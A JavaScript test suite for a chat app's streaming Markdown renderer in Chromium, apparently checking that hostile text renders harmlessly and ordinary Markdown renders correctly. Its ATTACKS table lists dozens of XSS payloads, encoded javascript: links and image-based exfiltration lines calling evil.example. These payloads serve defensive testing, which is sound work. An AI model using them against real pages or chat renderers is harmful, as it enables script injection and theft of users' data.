// Streaming Markdown in Chromium, under the page's own policy: what is made of hostile and of ordinary
// text, and that an answer looks the same whole and typed out character by character.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { before, describe, test } from 'node:test';
import { useChat } from './support/chat.mjs';
import { installMarkdown, renderMarkdown } from './support/markdown.mjs';

/** @import { CDPSession, Page } from 'playwright-core' */

const FENCE = '```';
const LONG = 'x'.repeat(1024 * 1024);

/** Text that an agent may be talked into, or may quote. @type {Record<string, string>} */
const ATTACKS = {
  script: '<script>alert(1)</script>',
  'script in a paragraph': 'a <script src=https://evil.example/x.js></script> b',
  'script without end': 'text <script>alert(1)\n\nmore [a](http://a.example) *b*',
  'script block': '<script>\nalert(1)\n</script>\n\nafter',
  'handlers in tags that are allowed':
    '<sub onclick=alert(1)>x</sub> <kbd style=position:fixed>y</kbd> <sup><script>alert(1)</script></sup>',
  'handlers in a footnote and in an alert':
    'a[^1"onclick=alert(1)]\n\n[^1"onclick=alert(1)]: <svg onload=alert(1)>\n\n> [!NOTE]<img src=x onerror=alert(1)>\n> [x](javascript:alert(1))',
  'image with handler': '<img src=x onerror=alert(1)>',
  'svg with handler': '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  iframe: '<iframe src="javascript:alert(1)"></iframe>',
  srcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  form: '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">Go</button></form>',
  style: '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  base: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  link: '<link rel=stylesheet href=https://evil.example/x.css>',
  'details with handler': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'anchor with handler': '<a href="https://a.example" onclick="alert(1)">x</a> http://b.example',
  'half a tag': '<img src="x" onerror="alert(1)"',
  comment: '<!-- <script>alert(1)</script> --> text <!-- open',
  cdata: '<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!DOCTYPE html>',
  'javascript link': '[x](javascript:alert(1))',
  'javascript in capitals': '[x](JaVaScRiPt:alert(1))',
  'javascript with entity':
    '[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1)) [z](&#x6A;avascript:alert(1))',
  'javascript with tab': '[x](<java\tscript:alert(1)>) [y](java&Tab;script:alert(1)) [z](java&NewLine;script:alert(1))',
  'javascript with control characters': '[x](\u0001javascript:alert(1)) [y](java\u0000script:alert(1))',
  'javascript percent-encoded': '[x](javascript%3Aalert(1)) [y](%6Aavascript:alert(1))',
  'javascript autolink': '<javascript:alert(1)> <JAVASCRIPT:alert(1)>',
  'javascript reference': '[x][r]\n\n[r]: javascript:alert(1)\n',
  'javascript late reference': '[r]\n\ntext\n\ntext\n\n[r]: javascript:alert(1) "title"\n',
  'javascript image': '![x](javascript:alert(1))',
  vbscript: '[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://a.example/1)',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'data image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'relative link': '[x](//evil.example/x) [y](/logout) [z](?a=b) [w](#x)',
  'exfiltration by image': '![x](https://evil.example/?q=secret)',
  'exfiltration by image in a link': '[![x](https://evil.example/a.png)](https://evil.example/b)',
  'exfiltration by reference image': '![x][r]\n\n[r]: https://evil.example/?q=secret',
  'quotes in an address': '[x](https://a.example/"onmouseover="alert(1)) [y](<https://a.example/\'onclick=\'alert(1)>)',
  'quotes in a title': '[x](https://a.example "a\\" onclick=\\"alert(1)")',
  'quotes in a language': `${FENCE}js" onload="alert(1)\ncode\n${FENCE}\n`,
  'markup in a language': `${FENCE}<img/src=x/onerror=alert(1)>\ncode\n${FENCE}\n`,
  'markup in code': `\`<img src=x onerror=alert(1)>\`\n\n${FENCE}html\n<script>alert(1)</script>\n${FENCE}\n`,
  'markup in a table':
    '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <script>alert(1)</script> | ![i](https://evil.example/i.png) |\n',
  'markup in a heading': '# <svg onload=alert(1)> [x](javascript:alert(1))\n',
  'markup in a list': '- <iframe src=javascript:alert(1)>\n- [ ] <input onfocus=alert(1)>\n',
  'entities that make a tag': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  bidi: 'safe \u202egpj.exe\u202c [\u202ehttps://bank.example\u202c](https://evil.example/\u202e) \u2066x\u2069 \u200b\ufeff',
  'mutation characters': '\u0000<scr\u0000ipt>alert(1)</script> \u2028\u2029 \ud800 \ufffe',
  'prototype names':
    '[__proto__] [constructor][toString]\n\n[__proto__]: http://a.example\n[constructor]: http://b.example\n',
  'page ids': '<div id=composer name=getElementById></div>\n\n# composer {#prompt}\n',
  'deep quotes': `${'>'.repeat(400)} deep`,
  'deep lists': Array.from({ length: 40 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n'),
  'deep brackets': '['.repeat(600) + ']'.repeat(600),
  'deep emphasis': `${'*a '.repeat(400)}${'**b'.repeat(200)}`,
  'many backticks': '`'.repeat(501) + ' x ' + '`'.repeat(500),
};

/** What identifiers and the like must look like: the words, and what must be among the elements. @type {Record<string, [string, string, string?]>} */
const PLAIN = {
  'snake case': ['max_tokens in max_new_tokens and __init__.py_x', 'max_tokens in max_new_tokens and __init__.py_x'],
  variables: ['Set $HOME and $PATH, not $HOME$PATH.', 'Set $HOME and $PATH, not $HOME$PATH.'],
  footnote: ['As said [1], and [2][3].', 'As said [1], and [2][3].'],
  product: ['a*b*c and 2*3*4 and x**y**z', 'a*b*c and 2*3*4 and x**y**z'],
  about: ['~5 or ~6, and ~/a~b', '~5 or ~6, and ~/a~b'],
  tilde: ['~~~py\nx = 1\n~~~\n\nafter', 'pyCopyx = 1after', 'pre'],
  'loose list': ['1. one\n\n2. two\n\n   more\n\n3. three\n', 'onetwomorethree', 'ol > li > .line + .line'],
  'tight list': ['- one\n- two\n  - three\n- [x] four\n', 'onetwothree☑ four', 'ul > li > ul > li'],
  table: ['| a | b |\n|---|--:|\n| `1` | **2** |\n', 'ab12', 'td.right > strong'],
  'long address': [
    'See https://en.example/wiki/A_(b)_(c)?q=1&r=2#x.',
    'See https://en.example/wiki/A_(b)_(c)?q=1&r=2#x.',
    'a[href="https://en.example/wiki/A_(b)_(c)?q=1&r=2#x"]',
  ],
  'address in a link': [
    '[wiki](https://en.example/A_(b_(c))) end',
    'wiki end',
    'a[href="https://en.example/A_(b_(c))"]',
  ],
  'late reference': [
    'See [the guide] first.\n\nText.\n\nText.\n\n[the guide]: https://a.example/g\n',
    'See the guide first.Text.Text.',
    'a[href="https://a.example/g"]',
  ],
  entities: ['a &amp; b &lt;c&gt; &#8364; &unknown; `&amp;`', 'a & b <c> € &unknown; &amp;', 'code'],
  emphasis: ['**bold** *thin* ~~gone~~ `code`', 'bold thin gone code', 'strong'],
  setext: ['Title\n-----\n\ntext', 'Titletext', 'h3'],
  mail: ['<ada@example.com>', 'ada@example.com', 'a[href="mailto:ada@example.com"]'],
  'windows lines': ['one\r\n\r\n- a\r\n- b\r\n', 'oneab', 'ul > li + li'],
  'long list': [
    Array.from({ length: 60 }, (_, index) => `${index + 1}. item *${index}*\n`).join(''),
    Array.from({ length: 60 }, (_, index) => `item ${index}`).join(''),
    '[role=list] > ol[start="49"] > li:nth-child(12) em',
  ],
  'long list that becomes loose': [
    `${'- a\n'.repeat(40)}\n- b\n- c\n`,
    `${'a'.repeat(40)}bc`,
    '[role=list] > ul:first-child > li:first-child > .line',
  ],
  'list of seventeen': [
    `7. ${'a\n1. '.repeat(17).slice(0, -3)}`,
    'a'.repeat(17),
    'ol[start="7"] + ol[start="23"] > li:only-child',
  ],
  'long list in a list': [
    `- a\n${'  - b\n'.repeat(20)}- c\n`,
    `a${'b'.repeat(20)}c`,
    'ul > li > [role=list] > ul + ul > li + li',
  ],
  'list that becomes loose': [`${'- a\n'.repeat(12)}\n- b\n- c\n`, `${'a'.repeat(12)}bc`, 'li:first-child > .line'],
  'two lists': [
    `${'- a\n'.repeat(6)}${'* b\n'.repeat(6)}1. c\n2. d\n`,
    `${'a'.repeat(6)}${'b'.repeat(6)}cd`,
    'ul + ul + ol',
  ],
  'long code': [
    `${FENCE}js\n${'const a = 1;\n'.repeat(60)}${FENCE}\n\nend`,
    `jsCopy${'const a = 1;\n'.repeat(60).trimEnd()}end`,
    'pre',
  ],
  'code in a list': [`- a\n\n  ${FENCE}\n  x\n  ${FENCE}\n- b\n`, 'aCopyxb', 'li pre'],
  'fence in a fence': [
    `${FENCE}${FENCE}\n${FENCE}\nx\n${FENCE}\n${FENCE}${FENCE}\n\nafter`,
    `Copy${FENCE}\nx\n${FENCE}after`,
    'pre + *, div.code + p',
  ],
};

const AXE = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const { openForAll } = useChat();

/** @type {Page} */
let page;

/** @param {string} text @param {number} [step] */
const rendered = (text, step) => renderMarkdown(page, text, step);

describe('in Chromium', () => {
  before(async () => {
    page = await openForAll();
    await installMarkdown(page);
  });

  describe('hostile text', () => {
    assert.ok(Object.keys(ATTACKS).length >= 40);
    for (const [name, attack] of Object.entries(ATTACKS)) {
      test(`${name} is harmless, whole and character by character`, async () => {
        const whole = await rendered(attack);
        assert.deepEqual(whole.broken, []);
        const typed = await rendered(attack, 1);
        assert.deepEqual(typed.broken, []);
        assert.equal(typed.html, whole.html);
        // Embedded in an answer, too.
        const around = `Intro.\n\n${attack}\n\nOutro [a](https://a.example).`;
        const inside = await rendered(around, 3);
        assert.deepEqual(inside.broken, []);
        assert.equal(inside.html, (await rendered(around)).html);
      });
    }

    for (const [name, text] of Object.entries({
      word: LONG,
      words: 'word *and* '.repeat(100_000),
      brackets: '[a]('.repeat(20_000),
      quotes: '> '.repeat(20_000),
    })) {
      test(`a line without end, of ${name}, does not hang`, async () => {
        const whole = await rendered(text);
        assert.deepEqual(whole.broken, []);
        assert.equal((await rendered(text, Math.ceil(text.length / 7))).html, whole.html);
      });
    }
  });

  describe('ordinary text', () => {
    for (const [name, [source, words, selector]] of Object.entries(PLAIN)) {
      test(`${name} is shown as it should be`, async () => {
        const whole = await rendered(source);
        assert.equal(whole.text.replaceAll('\n', ''), words.replaceAll('\n', ''));
        if (selector) assert.ok(await page.locator(`#transcript > div`).locator(selector).count(), whole.html);
        for (const step of [1, 2, 7])
          assert.equal((await rendered(source, step)).html, whole.html, `in steps of ${step}`);
        assert.deepEqual(whole.broken, []);
      });
    }

    test('markup that is incomplete is not shown', async () => {
      const source =
        'A **bold** word, `code`, a [link](https://a.example), and\n\nHeading\n---\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n';
      for (let end = 1; end < source.length; end += 1) {
        const { before } = await rendered(source.slice(0, end + 1), end);
        assert.doesNotMatch(before, /[*`[\]|]|https|---/, JSON.stringify(source.slice(0, end)));
      }
    });

    test('a long list is one list, to the eye and to assistive technology', async () => {
      await rendered(`Intro.\n\n${'1. word\n'.repeat(200)}\nOutro.\n`, 16);
      const looks = await page.locator('#transcript > div').evaluate((root) => {
        root.classList.add('prose');
        for (const part of root.querySelectorAll('*'))
          if (part instanceof HTMLElement) part.style.contentVisibility = 'visible';
        const items = [...root.querySelectorAll('li')].map((item) => item.getBoundingClientRect());
        const steps = items.slice(1).map(({ top }, index) => top - (items[index]?.top ?? 0));
        return {
          lefts: [...new Set(items.map(({ left }) => left))].length,
          steps: [...new Set(steps.map(Math.round))].length,
        };
      });
      assert.deepEqual(looks, { lefts: 1, steps: 1 });
      const session = await page.context().newCDPSession(page);
      const { nodes } = await session.send('Accessibility.queryAXTree', {
        objectId: await objectOf(session, '#transcript'),
        role: 'list',
      });
      assert.equal(nodes.filter(({ ignored }) => !ignored).length, 1);
      const { nodes: items } = await session.send('Accessibility.queryAXTree', {
        objectId: await objectOf(session, '#transcript'),
        role: 'listitem',
      });
      assert.equal(items.filter(({ ignored }) => !ignored).length, 200);
      await page.evaluate(AXE);
      // @ts-expect-error: axe is a global of its script.
      const { violations } = await page.evaluate(() => window.axe.run('#transcript'));
      assert.deepEqual(
        violations.map((/** @type {{id: string}} */ { id }) => id),
        [],
      );
    });

    test('copying a block of code gives its text', async () => {
      const { text } = await rendered(`${FENCE}\n${'line <b>\n'.repeat(3000)}${FENCE}`);
      assert.equal(text, `Copy${'line <b>\n'.repeat(3000).trimEnd()}`);
    });
  });
});

/** @param {CDPSession} session @param {string} selector @returns {Promise<string>} what the protocol calls the element */
async function objectOf(session, selector) {
  const { result } = await session.send('Runtime.evaluate', { expression: `document.querySelector('${selector}')` });
  return result.objectId ?? '';
}
